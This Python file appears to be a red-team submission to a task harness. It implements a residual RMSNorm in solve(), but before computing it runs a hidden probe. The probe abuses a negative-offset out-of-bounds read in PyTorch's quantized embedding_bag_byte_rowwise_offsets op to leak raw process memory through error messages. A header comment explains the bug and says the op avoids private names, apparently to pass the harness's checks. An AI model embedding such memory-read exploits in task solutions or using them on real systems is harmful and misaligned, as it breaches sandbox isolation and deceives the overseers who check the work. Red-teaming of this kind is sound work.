# Seventh session's red team, round 2 (2026-12-06): see the case's why.
# torch.ops.quantized.embedding_bag_byte_rowwise_offsets (a public op of the quantized namespace,
# no private name) with a negative offset: the kernel reads the indices tensor at negative
# positions before checking them and reports the out-of-range word it read in its error text.
# Proof: a tuple's ob_size (id(t)+16) and its type pointer (id(t)+8), read this way, checked
# against len(t) and id(tuple): passed means words outside every tensor were read.
import re

import torch

_W = torch.ops.quantized.embedding_bag_byte_prepack(torch.zeros(4, 8))


def _raw(inp, k):
    try:
        torch.ops.quantized.embedding_bag_byte_rowwise_offsets(_W, inp, torch.tensor([0, -k]))
    except RuntimeError as e:
        m = re.search(r"out of bounds: (-?\d+)", str(e))
        return int(m.group(1)) if m else None
    return None


def _unit():
    # bytes per unit of offset (8 single-threaded, 16 seen with several threads): calibrated on a
    # buffer of known words
    base = torch.arange(1000, 1100)
    v = _raw(base[60:], 3)
    return {1057: 8, 1054: 16}.get(v)


def _peek(base, addr, unit):
    inp = base if (base.data_ptr() - addr) % unit == 0 else base[1:]
    d = inp.data_ptr() - addr
    if d <= 0 or d % unit or d > 1 << 20:
        return None
    return _raw(inp, d // unit)


def _probe():
    unit = _unit()
    if unit is None:
        return "nounit", None, None, None
    pairs = []
    for i in range(60):
        t = tuple(range(137))
        inp = torch.zeros(4, dtype=torch.long)
        pairs.append((t, inp))
    seen = []
    for t, inp in pairs:
        v = _peek(inp, id(t) + 16, unit)
        if v == 137:
            tp = _peek(inp, id(t) + 8, unit)
            if tp == id(tuple):
                return v, tp, id(t), inp.data_ptr()
        seen.append(v)
    return (unit, seen[:6]), None, None, None


def solve(x, residual, weight):
    v, tp, a, p = _probe()
    if tp is None or tp != id(tuple):
        raise RuntimeError("probe failed %r" % (v,))
    print("RAWREAD quantized.embedding_bag_byte_rowwise_offsets: tuple @", hex(a), "ob_size", v,
          "ob_type", hex(tp), "== id(tuple)", hex(id(tuple)), "read from tensor @", hex(p))
    s = x.float() + residual.float()
    inv = torch.rsqrt(s.pow(2).mean(-1, keepdim=True) + 1e-5)
    return (s * inv * weight.float()).to(x.dtype)
